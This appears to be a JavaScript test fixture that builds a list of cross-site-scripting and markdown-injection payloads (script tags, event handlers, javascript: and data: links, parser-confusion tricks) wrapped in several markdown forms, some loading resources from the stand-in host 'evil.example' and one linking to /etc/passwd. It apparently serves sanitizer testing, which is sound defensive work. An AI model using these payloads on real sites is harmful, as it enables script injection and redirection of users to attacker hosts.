// Hostile answers: markup that would run, links that would run, and what parsers have tripped over, each in several
// wrappings. All of them try to call alert or to reach another host.

const HOST = "evil.example";

const ELEMENTS = [
  `<script>alert(1)</script>`,
  `<script src="//${HOST}/x.js"></script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="//${HOST}/p.png">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>" sandbox="allow-same-origin allow-scripts"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="//${HOST}/x.swf">`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<input autofocus onfocus=alert(1)>`,
  `<body onload=alert(1)>`,
  `<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>`,
  `<form action="//${HOST}"><button>go</button></form>`,
  `<link rel=stylesheet href="//${HOST}/x.css">`,
  `<meta http-equiv=refresh content="0;url=//${HOST}">`,
  `<base href="//${HOST}/">`,
  `<style>@import "//${HOST}/x.css";*{background:url(//${HOST}/y)}</style>`,
  `<div style="background:url(//${HOST}/z)" onmouseover=alert(1)>x</div>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<xmp><p title="</xmp><svg/onload=alert(1)>">`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<portal src="//${HOST}"></portal>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`,
  `</script><script>alert(1)</script>`,
  `"><svg/onload=alert(1)>`,
  `'-alert(1)-'`,
  `{{constructor.constructor('alert(1)')()}}`,
  "${alert(1)}",
  `&lt;img src=x onerror=alert(1)&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `\u003cimg src=x onerror=alert(1)\u003e`,
  `<ımg src=x onerror=alert(1)>`,
];

const LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://%0aalert(1)",
  "vbscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd",
  "blob:null/1",
  "filesystem:http://x/",
  `//${HOST}/a`,
  `https://${HOST}/a`,
];

const WRAPPINGS = [
  (inner) => inner,
  (inner) => `- item ${inner}\n\n> quote ${inner}`,
  (inner) => `| a | b |\n|---|---|\n| ${inner.replaceAll("|", "\\|")} | x |`,
  (inner) => "```" + inner.replaceAll("`", "").replaceAll("\n", " ") + "\n" + inner + "\n```",
];

const LINK_FORMS = [
  (url) => `[click](${url})`,
  (url) => `![image](${url} "title")`,
  (url) => `[ref]\n\n[ref]: ${url}`,
  (url) => `<${url}>`,
];

export const PAYLOADS = [
  ...ELEMENTS.flatMap((element) => WRAPPINGS.map((wrap) => wrap(element))),
  ...LINKS.flatMap((link) => LINK_FORMS.map((form) => form(link))),
];
